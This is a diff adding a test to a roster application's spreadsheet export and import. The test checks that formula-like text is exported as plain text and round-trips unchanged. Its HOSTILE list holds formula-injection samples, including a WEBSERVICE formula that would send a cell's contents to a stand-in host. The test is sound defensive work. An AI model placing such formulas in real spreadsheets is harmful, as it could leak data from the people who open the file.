@@ -294,3 +294,49 @@ def test_both_imports_read_dates_typed_the_office_way(demo_db, tmp_path):
     assert plan.problems == []
     [update] = plan.updates
     assert update.changes == {"move_in_date": (None, dt.date(2026, 11, 1))}
+
+
+# --- text that looks like a formula ---------------------------------------------------
+HOSTILE = ['=WEBSERVICE("http://x/"&R5)', "+1", "-2", "@SUM(A1)", "=1+1"]
+
+
+def sheet_xml(path: Path) -> str:
+    import zipfile
+
+    with zipfile.ZipFile(path) as archive:
+        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist()
+                       if name.startswith("xl/worksheets/"))
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text_and_imports_back(demo_db,
+                                                                             tmp_path):
+    roster = RosterService(demo_db, operator="王芳", today=TODAY)
+    org_id = next(r.org_id for r in roster.list_members() if r.org_id)
+    common = dict(sex="1", ethnicity="01", education="20", status="full",
+                  join_date=dt.date(2005, 7, 1), full_date=dt.date(2006, 7, 1),
+                  mobile="13912340000", category="direct", org_id=org_id)
+    for index, value in enumerate(HOSTILE):
+        roster.add(MemberDraft(name="测试" + "甲乙丙丁戊"[index],
+                               id_number=with_check(f"11010519800101{index}01"),
+                               note=value, native_place=value, party_post=value,
+                               work_unit=value, **common))
+    path = export_roster(demo_db, tmp_path / "hostile.xlsx")
+    xml = sheet_xml(path)
+    assert "<f>" not in xml and "<f " not in xml
+    assert "WEBSERVICE" in xml
+    exported = {r["姓名"]: r for r in sheet_rows(path)}
+    for index, value in enumerate(HOSTILE):
+        assert exported["测试" + "甲乙丙丁戊"[index]]["备注"] == value
+        assert exported["测试" + "甲乙丙丁戊"[index]]["籍贯"] == value
+    # what the problem list writes back is text too
+    rx.export_problems(tmp_path / "problems.xlsx", [(2, "备注", HOSTILE[0])])
+    assert "<f>" not in sheet_xml(tmp_path / "problems.xlsx")
+    before = snapshot(demo_db)
+    plan = roster_plan(demo_db, path)
+    assert plan.problems == []
+    assert (plan.new, plan.updates) == ([], [])
+    rx.apply(demo_db, plan, operator="王芳", today=TODAY)
+    assert snapshot(demo_db) == before
+    stored = {r.name: r for r in roster.list_members(MemberQuery(), reveal=True)}
+    assert [stored["测试" + "甲乙丙丁戊"[i]].note for i in range(len(HOSTILE))] == HOSTILE
+
